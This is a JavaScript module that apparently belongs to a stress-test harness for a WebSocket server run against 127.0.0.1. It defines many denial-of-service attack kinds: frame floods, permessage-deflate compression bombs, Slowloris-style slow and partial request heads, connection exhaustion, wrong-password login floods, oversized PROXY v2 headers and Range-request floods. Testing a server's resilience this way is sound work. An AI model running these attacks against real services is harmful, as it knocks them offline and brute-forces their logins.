/** What attackers do, by name. Each has made its bytes before the start, and ends with the time of the attack. */
import { Buffer } from 'node:buffer';
import { setTimeout as sleep } from 'node:timers/promises';
import { authorization, requestHead } from './attack.mjs';
import { FLOODS, bomb, frame } from './payloads.mjs';

/** @typedef {import('./attack.mjs').Attack} Attack */
/** @typedef {() => Promise<void>} Run */

const OFFER = 'permessage-deflate';
const FORGETFUL = 'permessage-deflate; server_no_context_takeover; client_no_context_takeover';
const MIB = 1024 * 1024;
/** How many connections are made at a time. */
const AT_ONCE = 16;

/** @type {Readonly<Record<string, (attack: Attack) => Run>>} */
export const KINDS = {
  flood,
  bombs,
  'half-messages': halfMessages,
  logins,
  early,
  keepers,
  requests,
  sessions,
  connects,
  'half-heads': halfHeads,
  'slow-heads': slowHeads,
  resets,
  'never-reading': neverReading,
  bursts,
  ranges,
  'proxy-headers': proxyHeaders,
  paths,
  hellos,
};

/** Frames of one kind, as fast as they are taken. `frames` is a name of `FLOODS`. */
function flood(/** @type {Attack} */ attack) {
  const name = attack.text('frames', 'text');
  const bytes = FLOODS[name]?.() ?? Buffer.alloc(0);
  const isDeflated = /deflated|bombs|blocks/.test(name);
  const prelude = attack.text('prelude', '');
  return () =>
    attack.onEachOpen(
      (index) => attack.open(index, isDeflated ? { offers: OFFER } : {}),
      async (socket) => {
        if (prelude !== '') socket.write(frame(0x82, Buffer.from(prelude)));
        if (bytes.length > 0) await attack.pour(socket, bytes);
        else await attack.hold(socket);
      },
    );
}

/** The same in bursts, all connections in step. */
function bursts(/** @type {Attack} */ attack) {
  const bytes = FLOODS[attack.text('frames', 'text')]?.() ?? Buffer.alloc(0);
  const everyMs = attack.number('everyMs', 500);
  const isDeflated = /deflated|bombs|blocks/.test(attack.text('frames', 'text'));
  return () =>
    attack.onEachOpen(
      (index) => attack.open(index, isDeflated ? { offers: OFFER } : {}),
      async (socket) => {
        while (!attack.isOver && !socket.destroyed) {
          await sleep(everyMs - (Date.now() % everyMs));
          attack.stats.answers++;
          await attack.pour(socket, bytes, attack.number('count', 4));
        }
      },
    );
}

/**
 * Compressed messages that inflate to `bytes`, `each` on a connection, one every `everyMs`. An attack with a number
 * ends when all are answered.
 */
function bombs(/** @type {Attack} */ attack) {
  const first = bomb(attack.number('bytes', 16 * MIB), attack.number('value', 0x20));
  // Messages that cost little on the wire, and an object each.
  const empty = frame(0x82, Buffer.alloc(0));
  const bytes = Buffer.concat([
    first,
    Buffer.alloc(empty.length * attack.number('behind', 0), empty),
  ]);
  const each = attack.number('each', Infinity);
  const everyMs = attack.number('everyMs', 0);
  const open = (/** @type {number} */ index) => attack.open(index, { offers: FORGETFUL });
  return async () => {
    if (each === Infinity) {
      // Who was thrown out comes again.
      await attack.onEach(async (index) => {
        const socket = await open(index);
        await attack.pause((everyMs * index) / attack.plan.connections);
        if (socket !== null) await send(socket);
      });
      return;
    }
    // All are open before the first one sends.
    const indexes = Array.from({ length: attack.plan.connections }, (_, index) => index);
    const sockets = await Promise.all(indexes.map(open));
    await Promise.all(sockets.filter((socket) => socket !== null).map(send));
  };

  async function send(/** @type {import('node:net').Socket} */ socket) {
    let answered = 0;
    const done = /** @type {Promise<void>} */ (
      new Promise((resolve) => {
        if (attack.plan.isDeaf === true) return;
        countMessages(socket, () => {
          attack.stats.answers++;
          if (++answered === each) resolve();
        });
      })
    );
    for (let sent = 0; sent < each && !attack.isOver && !socket.destroyed; sent++) {
      attack.stats.attempts++;
      await attack.pour(socket, bytes, 1);
      if (everyMs > 0) await attack.pause(everyMs);
    }
    await Promise.race([done, attack.hold(socket)]);
    attack.drop(socket);
  }
}

/**
 * @param {import('node:net').Socket} socket
 * @param {() => void} onMessage
 */
function countMessages(socket, onMessage) {
  let header = Buffer.alloc(0);
  let missing = 0;
  socket.on('data', (data) => {
    let rest = Buffer.from(data.buffer, data.byteOffset, data.length);
    while (rest.length > 0) {
      if (missing > 0) {
        const taken = Math.min(missing, rest.length);
        missing -= taken;
        rest = rest.subarray(taken);
        if (missing === 0) onMessage();
        continue;
      }
      header = Buffer.concat([header, rest.subarray(0, 10)]);
      const mark = header[1] ?? 0;
      const wanted = header.length < 2 ? 2 : mark < 126 ? 2 : mark === 126 ? 4 : 10;
      const had = header.length - Math.min(10, rest.length);
      if (header.length < wanted) return;
      missing =
        mark < 126
          ? mark
          : mark === 126
            ? header.readUInt16BE(2)
            : Number(header.readBigUInt64BE(2));
      rest = rest.subarray(wanted - had);
      header = Buffer.alloc(0);
      if (missing === 0) onMessage();
    }
  });
}

/** Messages that are begun and never ended: `bytes` of them come, a little more is declared. */
function halfMessages(/** @type {Attack} */ attack) {
  const bytes = attack.number('bytes', 15 * MIB);
  const begun = frame(0x82, Buffer.alloc(bytes), Math.min(bytes + 1000, 16 * MIB));
  return () =>
    attack.onEach(async (index) => {
      const socket = await attack.open(index);
      if (socket === null) return;
      await attack.pour(socket, begun, 1);
      attack.stats.answers++;
      await attack.hold(socket);
      attack.drop(socket);
    });
}

/** Wrong passwords, `perSecond` of them, from clients that hang up after `hangUpMs`. */
function logins(/** @type {Attack} */ attack) {
  const everyMs = 1000 / attack.number('perSecond', 60);
  const hangUpMs = attack.number('hangUpMs', 5);
  return async () => {
    const beganMs = Date.now();
    /** @type {Promise<void>[]} */
    const all = [];
    for (let count = 0; !attack.isOver; count++) {
      attack.stats.attempts++;
      all.push(tryOnce(count));
      await sleep(Math.max(0, beganMs + (count + 1) * everyMs - Date.now()));
    }
    await Promise.all(all);
  };

  async function tryOnce(/** @type {number} */ count) {
    const socket = await attack.connect(count);
    if (socket === null) return;
    const credentials = Buffer.from(`user-${count % 100}:wrong-${count}`).toString('base64');
    socket.on('data', () => attack.stats.answers++);
    socket.write(requestHead('/', [`Authorization: Basic ${credentials}`]));
    await attack.pause(hangUpMs);
    attack.drop(socket);
  }
}

/** Frames without end behind a handshake that waits for its password to be found wrong. */
function early(/** @type {Attack} */ attack) {
  const bytes = FLOODS['binary']?.() ?? Buffer.alloc(0);
  let count = 0;
  return () =>
    attack.onEach(async (index) => {
      const socket = await attack.connect(index);
      if (socket === null) return;
      const credentials = Buffer.from(`user-${index % 100}:wrong-${count++}`).toString('base64');
      socket.on('data', () => attack.stats.answers++);
      socket.write(requestHead('/', [`Authorization: Basic ${credentials}`]));
      await attack.pour(socket, bytes);
      attack.drop(socket);
    });
}

/** One compressed message on each connection, which then stays: what was made for it is kept. */
function keepers(/** @type {Attack} */ attack) {
  const bytes = bomb(attack.number('bytes', 4096), 0x20);
  return () =>
    attack.onEach(async (index) => {
      const socket = await attack.open(index, { offers: OFFER });
      if (socket === null) return;
      await attack.pour(socket, bytes, 1);
      attack.stats.answers++;
      await attack.hold(socket);
      attack.drop(socket);
    });
}

/** Requests that are refused, each with a path of `bytes`, one connection after the other. */
function requests(/** @type {Attack} */ attack) {
  const path = '/word'.repeat(attack.number('bytes', 8000) / 5);
  const head = Buffer.from(`GET ${path} HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Bad : 1\r\n\r\n`);
  return () =>
    again(attack, async (index) => {
      const socket = await attack.connect(index);
      if (socket === null) return;
      socket.on('data', () => undefined);
      socket.write(head);
      await attack.hold(socket);
      attack.stats.answers++;
      attack.drop(socket);
    });
}

/** Sessions that end at once, each with a path and a subprotocol as long as they may be. */
function sessions(/** @type {Attack} */ attack) {
  // Words, as no log takes them for a secret.
  const path = '/word'.repeat(attack.number('bytes', 7000) / 5);
  const headers = [`Sec-WebSocket-Protocol: ${'y'.repeat(attack.number('bytes', 7000))}`];
  return () =>
    again(attack, async (index) => {
      const socket = await attack.open(index, { path, headers });
      if (socket === null) return;
      attack.stats.answers++;
      socket.write(frame(0x88, Buffer.from([0x03, 0xe8])));
      await attack.hold(socket);
      attack.drop(socket);
    });
}

/**
 * Again and again on each connection, without a pause.
 * @param {Attack} attack
 * @param {(index: number) => Promise<void>} attempt
 */
async function again(attack, attempt) {
  const all = Array.from({ length: attack.plan.connections }, async (_, index) => {
    while (!attack.isOver) {
      attack.stats.attempts++;
      const before = attack.stats.answers;
      await attempt(index);
      if (attack.stats.answers === before) await sleep(2);
    }
  });
  await Promise.all(all);
}

/** Connections that say nothing, as many as are taken. */
function connects(/** @type {Attack} */ attack) {
  return () =>
    inCrowds(attack, async (index) => {
      const socket = await attack.connect(index);
      if (socket === null) return;
      await attack.hold(socket);
      attack.drop(socket);
    });
}

/** Half a request head, and no more. */
function halfHeads(/** @type {Attack} */ attack) {
  const head = requestHead('/').subarray(0, 60);
  return () =>
    inCrowds(attack, async (index) => {
      const socket = await attack.connect(index);
      if (socket === null) return;
      socket.on('data', () => undefined);
      socket.write(head);
      await attack.hold(socket);
      attack.drop(socket);
    });
}

/** A request head of 16 KB, a byte at a time. */
function slowHeads(/** @type {Attack} */ attack) {
  const head = requestHead('/', [`X-Slow: ${'x'.repeat(4000)}`]);
  const everyMs = attack.number('everyMs', 50);
  return () =>
    inCrowds(attack, async (index) => {
      const socket = await attack.connect(index);
      if (socket === null) return;
      socket.on('data', () => undefined);
      for (let at = 0; !attack.isOver && !socket.destroyed; at++) {
        socket.write(head.subarray(at, at + 1));
        await attack.pause(everyMs);
      }
      attack.drop(socket);
    });
}

/**
 * All connections of the plan, made few at a time, each again after its end.
 * @param {Attack} attack
 * @param {(index: number) => Promise<void>} attempt
 */
async function inCrowds(attack, attempt) {
  const all = Array.from({ length: attack.plan.connections }, async (_, index) => {
    await attack.pause(Math.floor(index / AT_ONCE) * 4);
    while (!attack.isOver) {
      attack.stats.attempts++;
      await attempt(index);
      await attack.pause(10);
    }
  });
  await Promise.all(all);
}

/** Handshakes that are complete, and reset at once or behind the first message. */
function resets(/** @type {Attack} */ attack) {
  const bytes = Buffer.concat([
    requestHead(attack.plan.path ?? '/', authorization(attack.plan.user)),
    frame(0x82, Buffer.alloc(1000)),
  ]);
  return () =>
    again(attack, async (index) => {
      const socket = await attack.connect(index);
      if (socket === null) return;
      attack.stats.answers++;
      socket.write(bytes);
      await attack.pause(attack.stats.attempts % 3);
      attack.drop(socket);
    });
}

/** Asks for as much as it is given, and reads none of it. */
function neverReading(/** @type {Attack} */ attack) {
  const bytes = FLOODS[attack.text('frames', 'binary')]?.() ?? Buffer.alloc(0);
  const isDeflated = /deflated|bombs|blocks/.test(attack.text('frames', 'binary'));
  return () =>
    attack.onEachOpen(
      (index) => attack.open(index, isDeflated ? { offers: OFFER } : {}),
      async (socket) => {
        socket.pause();
        await attack.pour(socket, bytes);
      },
    );
}

/** Requests for parts of a file, one behind the other on each connection, `depth` at a time. */
function ranges(/** @type {Attack} */ attack) {
  const file = attack.text('file', '/large.bin');
  const request = Buffer.from(
    [
      `GET ${file} HTTP/1.1`,
      'Host: 127.0.0.1',
      `Range: bytes=${attack.text('range', '0-99')}`,
      ...authorization(attack.plan.user),
      '\r\n',
    ].join('\r\n'),
  );
  const bytes = Buffer.alloc(request.length * attack.number('depth', 50), request);
  return () =>
    attack.onEach(async (index) => {
      const socket = await attack.connect(index);
      if (socket === null) return;
      if (attack.plan.isDeaf !== true) socket.on('data', () => undefined);
      await attack.pour(socket, bytes);
      attack.drop(socket);
    });
}

/** A PROXY header of version 2 with as many parts as fit, in front of a handshake; connection after connection. */
function proxyHeaders(/** @type {Attack} */ attack) {
  const parts = Buffer.alloc(3 * 5000, Buffer.of(0xea, 0, 0));
  const header = Buffer.alloc(16 + 12);
  header.set(
    [0x0d, 0x0a, 0x0d, 0x0a, 0x00, 0x0d, 0x0a, 0x51, 0x55, 0x49, 0x54, 0x0a, 0x21, 0x11],
    0,
  );
  header.writeUInt16BE(12 + parts.length, 14);
  header.set([10, 0, 0, 1, 10, 0, 0, 2, 0x30, 0x39, 0x1f, 0x90], 16);
  const bytes = Buffer.concat([header, parts, requestHead('/')]);
  return () =>
    again(attack, async (index) => {
      const socket = await attack.connect(index);
      if (socket === null) return;
      await new Promise((/** @type {(value?: unknown) => void} */ resolve) => {
        socket.once('data', () => {
          attack.stats.answers++;
          resolve();
        });
        socket.once('close', resolve);
        socket.write(bytes);
      });
      attack.drop(socket);
    });
}

/** Handshakes for one path, and nothing done with those that are accepted. */
function paths(/** @type {Attack} */ attack) {
  const path = attack.text('path', '/');
  return () =>
    again(attack, async (index) => {
      const socket = await attack.open(index, { path: path.replace('*', String(index)) });
      attack.stats.answers++;
      if (socket !== null) attack.drop(socket);
    });
}

/** TLS handshakes that lead to nothing. */
function hellos(/** @type {Attack} */ attack) {
  return () =>
    again(attack, async (index) => {
      const socket = await attack.connect(index);
      if (socket === null) return;
      attack.stats.answers++;
      attack.drop(socket);
    });
}
